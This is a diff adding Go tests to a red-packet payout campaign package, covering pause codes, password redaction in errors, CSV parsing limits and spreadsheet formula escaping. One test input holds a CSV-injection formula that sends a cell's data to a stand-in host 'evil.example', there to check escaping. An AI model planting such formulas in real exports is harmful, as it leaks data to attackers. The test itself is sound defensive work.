@@ -3,9 +3,14 @@ package campaign
 import (
 	"context"
 	"database/sql"
+	"encoding/csv"
+	"fmt"
+	"github.com/redpack-go/redpack"
 	"io"
+	"runtime"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/redpack-go/redpack/redpacktest"
 	"github.com/stretchr/testify/assert"
@@ -233,4 +238,144 @@ func TestPlanInputChangedBetweenPasses(t *testing.T) {
 			assert.ErrorIs(t, err, ErrInputChanged)
 		})
 	}
+}
+
+// Review finding 6: merchant-wide codes pause the campaign and fail no row;
+// the next run pays everything. Per-row FINAL codes still fail the row.
+func TestMerchantWideCodesPause(t *testing.T) {
+	for _, code := range []string{"DAY_OVER_LIMITED", "MSGAPPID_ERROR", "ACCEPTMODE_ERROR"} {
+		t.Run(code, func(t *testing.T) {
+			db := openTest(t, "sqlite")
+			srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
+			defer srv.Close()
+			_, err := db.Plan(context.Background(), basePlan("w"), csvOpener(genCSV(10, 10)))
+			require.NoError(t, err)
+			require.NoError(t, srv.Inject(redpacktest.EndpointSend, redpacktest.ResultFail(code), 1))
+			res := runDone(t, db, srv, "w")
+			assert.False(t, res.Done)
+			assert.Contains(t, res.PauseReason, code)
+			assert.Zero(t, res.Summary.Failed.Rows, "no row fails for a merchant-wide stop")
+			res = runDone(t, db, srv, "w")
+			require.True(t, res.Done, "%+v", res)
+			assert.Equal(t, int64(10), res.Summary.Paid.Rows)
+			assert.Len(t, srv.Packets(), 10)
+		})
+	}
+	t.Run("per-row FINAL fails the row", func(t *testing.T) {
+		db := openTest(t, "sqlite")
+		srv := redpacktest.NewServer(redpacktest.WithFreqLimit(0))
+		defer srv.Close()
+		_, err := db.Plan(context.Background(), basePlan("w"), csvOpener(genCSV(3, 3)))
+		require.NoError(t, err)
+		require.NoError(t, srv.Inject(redpacktest.EndpointSend, redpacktest.ResultFail("RCVDAMOUNT_LIMIT"), 1))
+		res := runDone(t, db, srv, "w")
+		require.True(t, res.Done, "%+v", res)
+		assert.Equal(t, int64(1), res.Summary.Failed.Rows)
+	})
+}
+
+// Review finding 9: no part of a Postgres password is ever echoed, not even
+// with a raw '@' in it.
+func TestOpenNeverEchoesPassword(t *testing.T) {
+	for _, dsn := range []string{
+		"postgres://u:s3c@retPW@127.0.0.1:1/db?connect_timeout=x",
+		"postgres://u:s3c@retPW@127.0.0.1:1/db?sslmode=bogus",
+		"postgresql://u:p%40ss@retPW@127.0.0.1:1/db?connect_timeout=1",
+		"postgres://u:s3c@retPW@127.0.0.1:1/db?connect_timeout=1",
+	} {
+		ctx, cancel := context.WithTimeout(context.Background(), 5*time.Second)
+		_, err := Open(ctx, dsn)
+		cancel()
+		require.Error(t, err, dsn)
+		msg := err.Error()
+		for _, part := range []string{"s3c", "retPW", "p%40ss"} {
+			assert.NotContains(t, msg, part, "error for a URL with a password echoes part of it")
+		}
+	}
+}
+
+// Review finding 8: report cells that a spreadsheet would run as a formula
+// are escaped.
+func TestReportEscapesFormulas(t *testing.T) {
+	db := openTest(t, "sqlite")
+	ctx := context.Background()
+	in := "key,openid,amount\n\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"click\"\")\",oA,100\n@SUM(1+1),oB,100\n+1,oC,100\n-2,-oD,100\nplain,oE,100\n"
+	_, err := db.Plan(ctx, basePlan("x"), csvOpener(in))
+	require.NoError(t, err)
+	var b strings.Builder
+	require.NoError(t, db.Report(ctx, "x", &b))
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, recs, 6)
+	for _, r := range recs[1:] {
+		for i, cell := range r {
+			if cell != "" {
+				assert.NotContains(t, "=+-@\t\r", cell[:1], "column %s cell %q", ReportColumns[i], cell)
+			}
+		}
+	}
+	assert.Equal(t, "'@SUM(1+1)", recs[2][0])
+	assert.Equal(t, "'-oD", recs[4][1])
+	assert.Equal(t, "plain", recs[5][0])
+}
+
+// okErr is a non-nil error claiming OutcomeOK.
+type okErr struct{}
+
+func (okErr) Error() string            { return "claims OK" }
+func (okErr) Outcome() redpack.Outcome { return redpack.OutcomeOK }
+
+// Review finding 10: only err == nil (or a Check record) is proof of
+// payment; a non-nil error never reads as PAID.
+func TestNonNilErrorNeverOK(t *testing.T) {
+	assert.Equal(t, outOK, classify(nil).outcome)
+	a := classify(fmt.Errorf("wrapped: %w", okErr{}))
+	assert.Equal(t, outUnknown, a.outcome)
+}
+
+// quotedSpan is a key field opened by a quote that never closes, with a
+// newline every 1000 bytes, for n bytes.
+type quotedSpan struct{ n, sent int }
+
+func (q *quotedSpan) Read(p []byte) (int, error) {
+	if q.sent >= q.n {
+		return 0, io.EOF
+	}
+	for i := range p {
+		if q.sent%1000 == 999 {
+			p[i] = '\n'
+		} else {
+			p[i] = 'x'
+		}
+		q.sent++
+		if q.sent >= q.n {
+			return i + 1, nil
+		}
+	}
+	return len(p), nil
+}
+
+// Review finding 7: one quoted field spanning many lines is refused once
+// the record passes 64 KiB, with the line it started on, without being
+// held.
+func TestParseCSVQuotedFieldSpanningLines(t *testing.T) {
+	r := io.MultiReader(strings.NewReader("key,openid,amount\nk1,o1,100\n\""), &quotedSpan{n: 30 << 20})
+	var before, after runtime.MemStats
+	runtime.GC()
+	runtime.ReadMemStats(&before)
+	err := ParseCSV(r, func(InputRow) error { return nil })
+	runtime.ReadMemStats(&after)
+	var pe *PlanError
+	require.ErrorAs(t, err, &pe)
+	require.NotEmpty(t, pe.Problems)
+	p := pe.Problems[len(pe.Problems)-1]
+	assert.Equal(t, 3, p.Line, "the line the record started on")
+	assert.Contains(t, p.Msg, "longer than 64 KiB")
+	assert.Less(t, after.TotalAlloc-before.TotalAlloc, uint64(8<<20), "the field is not held")
+
+	// Quoted newlines and "" escapes in ordinary records are not mistaken.
+	var keys []string
+	ok := "key,openid,amount,wishing\n\"a\"\"b\",o1,100,\"two, lines\"\nc,o2,100,\"x,\"\"y\"\"\"\n"
+	require.NoError(t, ParseCSV(strings.NewReader(ok), func(r InputRow) error { keys = append(keys, r.Key); return nil }))
+	assert.Equal(t, []string{"a\"b", "c"}, keys)
 }
